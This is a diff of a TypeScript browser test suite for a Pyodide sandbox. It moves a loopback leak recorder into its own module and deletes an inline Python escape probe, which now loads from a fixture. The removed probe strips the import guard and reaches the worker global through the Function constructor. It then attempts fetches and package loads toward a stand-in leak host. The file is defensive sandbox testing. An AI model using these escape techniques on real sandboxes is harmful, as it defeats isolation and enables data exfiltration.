@@ -4,60 +4,18 @@
 // where the same attempt does succeed, so every "nothing happened" assertion can fail.
 // Findings and residuals are printed (search the output for FINDING and RESIDUAL).
 import { randomUUID } from 'node:crypto';
-import { createSocket, type Socket } from 'node:dgram';
-import { createServer, type IncomingMessage, type Server } from 'node:http';
-import type { AddressInfo } from 'node:net';
+import { readFileSync } from 'node:fs';
+import type { IncomingMessage } from 'node:http';
 import type { Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { startRig, type BrowserRig } from './harness.ts';
+import { LEAK_DOMAIN, startLeakRecorder, type LeakRecorder } from './leak-recorder.ts';
 import type { AttackReport, AttackRequest, AppStorageSnapshot, SpadeTestApi } from './pages/sandbox-page.ts';
 
 const PAGE = '/tests/browser/pages/sandbox.html';
 const CONTROL_PAGE = '/tests/browser/pages/no-csp.html';
 const MARKER = `spade-marker-${randomUUID()}`;
 const CHANNEL = 'spade-lab';
-/** Chromium resolves any *.leak.test name to the leak recorder, so a DNS look-up of one shows up as a TCP connection. */
-const LEAK_DOMAIN = 'leak.test';
-
-/** Records every request (and raw TCP connection, and UDP datagram) that reaches it. */
-interface LeakRecorder {
-  origin: string;
-  requests: string[];
-  tcpConnections: number;
-  udpPackets: string[];
-  close(): Promise<void>;
-}
-
-async function startLeakRecorder(): Promise<LeakRecorder> {
-  const recorder: LeakRecorder = { origin: '', requests: [], tcpConnections: 0, udpPackets: [], close: async () => undefined };
-  const server: Server = createServer((req, res) => {
-    recorder.requests.push(`${req.method} ${req.url}`);
-    const type = req.url?.includes('.js') ? 'text/javascript' : 'text/plain';
-    res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Content-Type': type });
-    res.end(type === 'text/javascript' ? 'postMessage("leak script ran");' : 'recorded');
-  });
-  server.on('connection', () => (recorder.tcpConnections += 1));
-  server.on('upgrade', (req: IncomingMessage, socket) => {
-    recorder.requests.push(`UPGRADE ${req.url}`);
-    socket.destroy();
-  });
-  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
-  const { port } = server.address() as AddressInfo;
-  recorder.origin = `http://127.0.0.1:${port}`;
-  // A STUN server address is host:port over UDP; listen on the same port number for WebRTC attempts.
-  const udp: Socket = createSocket('udp4');
-  udp.on('message', (message, from) => recorder.udpPackets.push(`${from.address}:${from.port} ${message.length} bytes`));
-  await new Promise<void>((resolve, reject) => {
-    udp.once('error', reject);
-    udp.bind(port, '127.0.0.1', () => resolve());
-  });
-  recorder.close = async () => {
-    udp.close();
-    server.closeAllConnections();
-    await new Promise((resolve) => server.close(resolve));
-  };
-  return recorder;
-}
 
 let rig: BrowserRig;
 let leak: LeakRecorder;
@@ -89,8 +47,6 @@ function show(label: string, value: unknown): void {
 
 beforeAll(async () => {
   rig = await startRig([`--host-resolver-rules=MAP *.${LEAK_DOMAIN} 127.0.0.1`]);
-  // Files under src/ may change while this runs; a Vite full reload would wipe the page's state.
-  await rig.server.watcher.close();
   leak = await startLeakRecorder();
   rig.server.httpServer?.on('request', (req: IncomingMessage) => {
     if (req.url && /leak/i.test(req.url)) appLeaks.push(`${req.method} ${req.url}`);
@@ -127,118 +83,7 @@ describe('set-up and controls', () => {
 
 // --- a. Python level, through the real runtime ----------------------------------------------------
 
-const PYTHON_ESCAPE = String.raw`
-import sys, json, gc, types, importlib, time
-
-LEAK = "__LEAK__"
-
-class EscapeEnv:
-    def __init__(self, max_turns=12):
-        self.max_turns = max_turns
-
-    def reset(self, seed=None):
-        out = {}
-
-        def attempt(name, run):
-            try:
-                value = run()
-                out[name] = {"ok": True, "value": repr(value)[:300]}
-                return value
-            except BaseException as exc:
-                out[name] = {"ok": False, "error": (type(exc).__name__ + ": " + str(exc))[:400]}
-                return None
-
-        def run_js():
-            from pyodide.code import run_js
-            return run_js("self.origin")
-
-        def pyfetch():
-            from pyodide.http import pyfetch
-            # pyfetch is a coroutine: drive it by hand up to its first await.
-            return pyfetch(LEAK + "/leak/python/pyfetch").send(None)
-
-        def open_url():
-            from pyodide.http import open_url
-            return open_url(LEAK + "/leak/python/open_url").read()
-
-        # 1. With the harness's import guard in place.
-        attempt("import js", lambda: __import__("js"))
-        attempt("import pyodide_js", lambda: __import__("pyodide_js"))
-        attempt("from pyodide.code import run_js", run_js)
-        attempt("importlib.import_module('_pyodide_core')", lambda: importlib.import_module("_pyodide_core"))
-        attempt("gc: hidden js modules still in memory", lambda: sorted({
-            o.__name__ for o in gc.get_objects()
-            if isinstance(o, types.ModuleType) and o.__name__.split(".")[0] in ("js", "pyodide_js")
-        }))
-
-        # 2. Remove the guard and import again.
-        before = [type(f).__name__ for f in sys.meta_path]
-        sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != "_BlockedImport"]
-        out["meta_path"] = {"before": before, "after": [type(f).__name__ for f in sys.meta_path]}
-        js = attempt("import js (guard removed)", lambda: __import__("js"))
-        attempt("js.object_keys() (guard removed)", lambda: list(js.object_keys()))
-        attempt("js.eval (guard removed)", lambda: js.eval("self.origin"))
-        attempt("from js import fetch (guard removed)", lambda: js.fetch)
-        attempt("from pyodide.code import run_js (guard removed)", run_js)
-        attempt("pyodide.http.pyfetch (guard removed)", pyfetch)
-        attempt("pyodide.http.open_url (guard removed)", open_url)
-        pj = attempt("import pyodide_js (guard removed)", lambda: __import__("pyodide_js"))
-
-        # 3. From a JS object to the worker global.
-        F = attempt("pyodide_js.toPy.constructor", lambda: pj.toPy.constructor)
-        attempt("Function('return self')()", lambda: F("return self")())
-        attempt("Function.new('return self')", lambda: F.new("return self"))
-        attempt("AsyncFunction via runPythonAsync.constructor", lambda: pj.runPythonAsync.constructor("return self"))
-        attempt("Function via toPy.constructor.constructor", lambda: pj.toPy.constructor.constructor("return self")())
-        attempt("pyodide_js.loadPackage(leak url)", lambda: pj.loadPackage(LEAK + "/leak/python/loadPackage.whl"))
-
-        def search_global():
-            # Breadth-first over every JS object reachable from pyodide_js and js by property
-            # access (depth 5), looking for the worker global and for objects holding a worker API.
-            api_marks = ("indexedDB", "fetch", "XMLHttpRequest", "WebSocket", "caches", "importScripts", "postMessage")
-            start, visited, skipped, found, apis, seen = time.time(), 0, 0, [], [], set()
-            queue = [("pyodide_js", pj, 0), ("js", js, 0)]
-            while queue and time.time() - start < 20:
-                path, obj, depth = queue.pop(0)
-                visited += 1
-                try:
-                    if hasattr(obj, "importScripts") and hasattr(obj, "postMessage"):
-                        found.append(path)
-                        continue
-                    apis.extend(path + "." + m for m in api_marks if hasattr(obj, m))
-                    if depth >= 5:
-                        continue
-                    # Typed arrays and long arrays (the wasm heap views) only hold numbers.
-                    if hasattr(obj, "BYTES_PER_ELEMENT") or (hasattr(obj, "length") and obj.typeof == "object" and obj.length > 1000):
-                        skipped += 1
-                        continue
-                    names = dir(obj)
-                except BaseException:
-                    continue
-                for name in names:
-                    if name.startswith("__"):
-                        continue
-                    try:
-                        value = getattr(obj, name)
-                        key = value.js_id
-                    except BaseException:
-                        continue
-                    if key in seen:
-                        continue
-                    seen.add(key)
-                    queue.append((path + "." + name, value, depth + 1))
-            return {"visited": visited, "skipped_numeric_arrays": skipped, "exhausted": not queue, "found": found, "apis": apis, "seconds": round(time.time() - start, 2)}
-
-        attempt("search pyodide_js for the worker global (depth 5)", search_global)
-
-        # 4. Worker APIs that are reachable from pyodide_js without the global.
-        idb = attempt("pyodide_js._module.IDBFS.indexedDB()", lambda: pj._module.IDBFS.indexedDB())
-        attempt("IDBFS.indexedDB().open('spade-lab')", lambda: idb.open("spade-lab"))
-        return json.dumps(out), {}
-
-    def step(self, action):
-        return "done", 0.0, True, False, {}
-`;
+const PYTHON_ESCAPE = readFileSync(new URL('../fixtures/envs/hostile/browser_escape.py', import.meta.url), 'utf8');
 
 type PythonOutcome = { ok: true; value: string } | { ok: false; error: string };
 
